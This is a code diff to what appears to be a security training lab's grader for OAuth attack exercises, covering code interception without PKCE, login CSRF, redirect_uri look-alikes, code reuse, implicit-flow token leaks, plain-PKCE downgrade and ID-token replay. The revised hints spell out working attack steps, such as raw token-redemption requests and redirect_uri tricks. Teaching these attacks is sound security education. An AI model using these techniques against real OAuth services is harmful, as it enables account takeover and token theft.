@@ -11,6 +11,7 @@ from __future__ import annotations
 import hashlib
 import random
 import secrets
+import time
 from collections.abc import Callable, Iterator
 from contextlib import closing, contextmanager
 from dataclasses import dataclass
@@ -273,11 +274,16 @@ def _alices_token(ctx: CheckContext, how: Judge, *, won: str, lost: str) -> Verd
     title="Intercept alice's code and redeem it without PKCE",
     kind="attack",
     hints=(
-        "oauth.victim_click(SERVER, CLIENT + '/login', intercept=redirect_uri) makes alice "
-        "log in while a malicious app claims the redirect URI.",
-        "The code is in the query of result['intercepted'] (oauth.query_params).",
-        "oauth.redeem(http, SERVER, code, client_id=..., redirect_uri=...) with no "
-        "code_verifier; hand in the access_token.",
+        "A public client has no secret: whoever holds a code can redeem it, unless the server "
+        "insists on the PKCE code_verifier. oauth.victim_click(server, client + '/login', "
+        "intercept=client + '/callback') makes alice log in while a malicious app claims the "
+        "callback: the code is in the query of result['intercepted'].",
+        "parse_qs(urlsplit(url).query)['code'][0] takes it out; httpx.post(server + '/token', "
+        "data={'grant_type': 'authorization_code', 'code': code, 'client_id': client_id, "
+        "'redirect_uri': client + '/callback'}) redeems it with no code_verifier. Return "
+        "its .json(); the check takes stolen['access_token'].",
+        "Ready-made: labkit.attacks.oauth.query_params(url) and oauth.redeem(http, server, "
+        "code, client_id=..., redirect_uri=...).",
     ),
     answer_help="the access token you got for alice's intercepted code",
 )
@@ -302,8 +308,11 @@ def code_interception(ctx: CheckContext) -> Verdict:
     hints=(
         "Sign in as carol in your own browser and follow CLIENT + '/login' with "
         "stop_at=redirect_uri: trip.stopped_at is a callback URL with carol's code.",
-        "Never deliver it yourself: send it to alice with oauth.victim_click.",
-        "Hand in that callback URL.",
+        "Never deliver it yourself: send it to alice with oauth.victim_click and read "
+        "['final']. 'PKCE verification failed' means her browser had a login of its own in "
+        "progress (the client sent her verifier with your code); that click ended it, so "
+        "forge a new callback and send it again.",
+        "Hand in the callback URL; the check asks alice's own browser who she is now.",
     ),
     answer_help="the callback URL (with your code) that you sent to alice",
 )
@@ -314,13 +323,16 @@ def login_csrf(ctx: CheckContext) -> Verdict:
     pair = _pair(ctx.target)
     if not url.startswith(pair.client + "/callback"):
         return Verdict(False, f"the URL must be the client's callback, {pair.client}/callback?...")
-    attack.victim_click(pair.server, url, fresh=True)
+    # the effect, in alice's own browser as the learner's click left it (no click of our own)
     me = attack.victim_click(pair.server, pair.client + "/me")["final"] or {}
     findings = Findings()
     body = str(me.get("body", ""))
     findings.expect(
         me.get("status") == 200 and VICTIM not in body,
-        f"after the click alice's /me says {me.get('status')} {body[:80]}",
+        f"alice's own browser is not in your account: her /me says {me.get('status')} "
+        f"{body[:80]} — send her your callback URL (if her click landed on 'PKCE "
+        "verification failed', a login of hers was in progress: forge a new callback and "
+        "send it again)",
         f"alice's browser is now logged in to the client as {body}",
     )
     return findings.verdict(
@@ -333,34 +345,47 @@ def login_csrf(ctx: CheckContext) -> Verdict:
     title="Get alice's code sent to your site with a lax redirect_uri",
     kind="attack",
     hints=(
-        "oauth.redirect_uri_tricks(redirect_uri, ATTACKER) lists seven variants; try each at "
-        "/authorize and look at the status and Location.",
-        "The 'port' and '@' variants land on the attacker's site itself.",
-        "Hand in the redirect_uri that makes alice's code arrive at your site.",
+        "The server accepts look-alikes of the registered redirect_uri. Change one part of "
+        "it at a time: a sub-path, '/../x', '?next=...', user info before the host "
+        "(host:port@attacker-host:port), another port on the same host.",
+        "urlsplit(redirect_uri)._replace(netloc=f'{host}:{port}').geturl() edits one part; "
+        "in this lab the attacker's site is the client's host on another port "
+        "(urlsplit(ATTACKER).port). Try each at /authorize and read the Location.",
+        "Ready-made: labkit.attacks.oauth.redirect_uri_tricks(redirect_uri, ATTACKER) "
+        "lists seven classic variants.",
     ),
-    answer_help="the redirect_uri you made the server accept",
+    answer_help="your look-alike redirect URIs (a dict name -> URI, a list, or one URI)",
 )
 def redirect_uri(ctx: CheckContext) -> Verdict:
-    uri = ctx.answer
-    if not isinstance(uri, str):
-        return Verdict(False, f"expected a redirect_uri (a str), got {type(uri).__name__}")
+    answer = ctx.answer
+    uris = list(answer.values()) if isinstance(answer, dict) else answer
+    uris = [uris] if isinstance(uris, str) else uris
+    if not isinstance(uris, (list, tuple)) or not uris or not all(isinstance(u, str) for u in uris):
+        return Verdict(
+            False, f"expected redirect URIs (a dict, a list or one str), got {answer!r:.80}"
+        )
     pair = _pair(ctx.target)
-    before = len(attack.captured(pair.attacker))
-    link = attack.authorize_url(
-        pair.server,
-        response_type="code",
-        client_id=pair.client_id,
-        redirect_uri=uri,
-        scope=SCOPE,
-    )
-    attack.victim_click(pair.server, link, fresh=True)
-    arrived = [c["query"].get("code") for c in attack.captured(pair.attacker)[before:]]
-    stolen = [_issued_code(pair, code) for code in arrived if code]
+    landed = []
+    for uri in uris[:20]:
+        before = len(attack.captured(pair.attacker))
+        link = attack.authorize_url(
+            pair.server,
+            response_type="code",
+            client_id=pair.client_id,
+            redirect_uri=uri,
+            scope=SCOPE,
+        )
+        attack.victim_click(pair.server, link, fresh=True)
+        arrived = [c["query"].get("code") for c in attack.captured(pair.attacker)[before:]]
+        stolen = [_issued_code(pair, code) for code in arrived if code]
+        if any(c is not None and c["user"] == VICTIM for c in stolen):
+            landed.append(uri)
     findings = Findings()
     findings.expect(
-        any(c is not None and c["user"] == VICTIM for c in stolen),
-        "alice's click did not deliver a code of hers to the attacker's site",
-        f"the server sent alice's code to {uri}",
+        bool(landed),
+        f"alice clicked a link with each of your {len(uris)} redirect URI(s); none delivered "
+        "a code of hers to the attacker's site (make one land on ATTACKER's origin)",
+        f"the server sent alice's code to {', '.join(landed)}",
     )
     return findings.verdict("alice's code came to you", "no code reached the attacker")
 
@@ -371,8 +396,10 @@ def redirect_uri(ctx: CheckContext) -> Verdict:
     kind="attack",
     hints=(
         "Make alice log in normally: oauth.victim_click(SERVER, CLIENT + '/login').",
-        "Her history holds the callback URL with the code the client already redeemed.",
-        "Redeem it again with oauth.redeem; hand in the code.",
+        "Her history holds the callback URL with the code the client already redeemed: "
+        "POST it to /token again as in the first attack; hand in the code.",
+        "Ready-made: labkit.attacks.oauth.redeem(http, SERVER, code, client_id=..., "
+        "redirect_uri=...).",
     ),
     answer_help="the code you redeemed a second time",
 )
@@ -399,8 +426,11 @@ def code_reuse(ctx: CheckContext) -> Verdict:
     kind="attack",
     hints=(
         "evil_id, evil_secret, evil_redirect = lab.facts['evil_client'].split()",
-        "Intercept a code of alice's issued to the webapp client, as in the first attack.",
-        "oauth.redeem(..., client_id=evil_id, client_secret=evil_secret); hand in the token.",
+        "Intercept a code of alice's issued to the webapp client, as in the first attack, and "
+        "POST it to /token with client_id=evil_id and client_secret=evil_secret in the form; "
+        "hand in the access token.",
+        "Ready-made: labkit.attacks.oauth.redeem(..., client_id=evil_id, "
+        "client_secret=evil_secret).",
     ),
     answer_help="the access token evil-app got for alice's code",
 )
@@ -425,8 +455,10 @@ def other_client(ctx: CheckContext) -> Verdict:
     hints=(
         "response_type=token makes the server put the access token in the redirect URL.",
         "Send alice an authorization link with response_type=token (any redirect_uri the "
-        "server accepts) and read the Location in her history.",
-        "oauth.fragment_params(url)['access_token']; hand it in.",
+        "server accepts) and read the Location in her history: "
+        "parse_qs(urlsplit(location).fragment)['access_token'][0]; hand it in.",
+        "Ready-made: labkit.attacks.oauth.authorize_url(...) builds the link and "
+        "oauth.fragment_params(url) reads the fragment.",
     ),
     answer_help="the access token from the URL",
 )
@@ -450,8 +482,10 @@ def implicit_leak(ctx: CheckContext) -> Verdict:
     hints=(
         "With code_challenge_method=plain the challenge IS the verifier.",
         "Send alice an authorization request with a plain challenge, intercept the code "
-        "(intercept=redirect_uri), and redeem it with code_verifier = the challenge you saw.",
-        "Hand in the access token.",
+        "(intercept=redirect_uri), and redeem it at /token with code_verifier = the challenge "
+        "you saw. Hand in the access token.",
+        "Ready-made: labkit.attacks.oauth.authorize_url(..., code_challenge=seen, "
+        "code_challenge_method='plain') and oauth.redeem(..., code_verifier=seen).",
     ),
     answer_help="the access token from a plain-PKCE code",
 )
@@ -473,9 +507,11 @@ def plain_downgrade(ctx: CheckContext) -> Verdict:
     title="Replay alice's ID token to the client (nonce not checked)",
     kind="attack",
     hints=(
-        "The token response of your first attack has an id_token: alice's, for webapp.",
-        "In a fresh browser, GET CLIENT + '/callback' with params={'id_token': ...}.",
-        "Hand in the ID token; the check replays it itself.",
+        "The token response of your first attack has an id_token: alice's, for webapp. It "
+        "lives 5 minutes: steal_tokens(SERVER, CLIENT) gets a fresh one.",
+        "In a fresh browser (a new httpx.Client), GET CLIENT + '/callback' with "
+        "params={'id_token': ...}, then /me. Hand in the ID token; the check replays it.",
+        "Ready-made: labkit.attacks.oauth.browser() is a fresh browser.",
     ),
     answer_help="alice's ID token (a JWT)",
 )
@@ -483,6 +519,19 @@ def nonce_replay(ctx: CheckContext) -> Verdict:
     token = ctx.answer
     if not isinstance(token, str) or token.count(".") != 2:
         return Verdict(False, f"expected an ID token (a JWT str), got {type(token).__name__}")
+    try:
+        claims = jwt.decode(token, options={"verify_signature": False})
+    except jwt.PyJWTError:
+        claims = {}
+    exp = claims.get("exp")
+    if isinstance(exp, (int, float)) and exp <= time.time():
+        when = time.strftime("%H:%M:%S UTC", time.gmtime(exp))
+        return Verdict(
+            False,
+            f"this ID token expired at {when} ({time.time() - exp:.0f} s ago; ID tokens here "
+            "live 5 minutes), so the client rightly refuses it: take a fresh one of alice's "
+            "(your steal_tokens(SERVER, CLIENT) from Attack 1) and replay that",
+        )
     pair = _pair(ctx.target)
     with pair.http() as http:
         http.get(pair.client + "/callback", params={"id_token": token})
